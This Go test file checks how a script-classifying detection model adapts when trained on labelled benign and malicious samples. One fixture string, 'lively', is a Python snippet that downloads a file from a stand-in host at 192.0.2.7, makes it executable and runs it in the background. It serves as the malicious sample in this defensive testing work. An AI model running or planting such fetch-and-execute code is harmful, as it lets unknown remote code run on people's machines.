package train_test

import (
	"fmt"
	"testing"

	"kingsnake/classify"
	"kingsnake/classify/corpus"
	"kingsnake/classify/model"
	"kingsnake/classify/train"
)

// adapted is the embedded model's tables after learning from rows, with and
// without the anchor.
func adapted(t *testing.T, rows []corpus.Row) *classify.Tables[int8] {
	t.Helper()
	base, err := model.Default()
	if err != nil {
		t.Fatal(err)
	}
	d, err := train.Build(t.Context(), train.Rows(rows), train.Options{})
	if err != nil {
		t.Fatal(err)
	}
	s := train.Adaptation()
	return train.Adapt(base.Tables(), pointers(d), train.Weigh(pointers(d), s.Positive), s)
}

func labeled(t *testing.T, text string, malicious bool) []corpus.Row {
	t.Helper()
	var files []corpus.File
	for i := range 10 {
		files = append(files, corpus.File{Folder: "f", Path: fmt.Sprint(i), Malicious: malicious, Text: fmt.Sprintf("%s\nprint(%d)\n", text, i)})
	}
	rows, _, err := corpus.Label(files, nil)
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

const (
	dull   = "import json\n\ndef load(path):\n    with open(path) as f:\n        return json.load(f)\n"
	lively = "import os, urllib.request\nurllib.request.urlretrieve('http://192.0.2.7/agent', '/tmp/agent')\nos.chmod('/tmp/agent', 0o755)\nos.system('/tmp/agent &')\n"
)

func TestWhatNoExampleAsksForStaysBitForBit(t *testing.T) {
	t.Parallel()
	base, err := model.Default()
	if err != nil {
		t.Fatal(err)
	}
	want := base.Tables()
	got := adapted(t, append(labeled(t, dull, false), labeled(t, lively, true)...))
	changed := 0
	for i, w := range got.Core {
		if w != want.Core[i] {
			changed++
		}
	}
	if changed > len(got.Core)/1000 {
		t.Errorf("%d weights changed for scripts that were judged rightly", changed)
	}
	if got.Bias != want.Bias || got.CoreUnit != want.CoreUnit || got.WindowUnit != want.WindowUnit {
		t.Error("the bias or a unit changed")
	}
	again, err := classify.New(want, base.Calibration(), base.Thresholds())
	if err != nil {
		t.Fatal(err)
	}
	if again.Hash() != base.Hash() {
		t.Error("the base itself was changed")
	}
}

func TestAdaptingMovesScoresToTheLabel(t *testing.T) {
	t.Parallel()
	base, err := model.Default()
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name, text string
		malicious  bool
	}{{"a look-alike becomes less suspicious", lively, false}, {"what looked harmless becomes more so", dull, true}} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			rows := labeled(t, c.text, c.malicious)
			m, err := classify.New(adapted(t, rows), base.Calibration(), base.Thresholds())
			if err != nil {
				t.Fatal(err)
			}
			e := train.NewExample(corpus.Row{Text: c.text + "\nprint('another')\n"}, train.Options{})
			before, after := base.Logit(e.Features), m.Logit(e.Features)
			if c.malicious && after < before+1 || !c.malicious && after > before-1 {
				t.Errorf("the score went from %.2f to %.2f", before, after)
			}
		})
	}
}
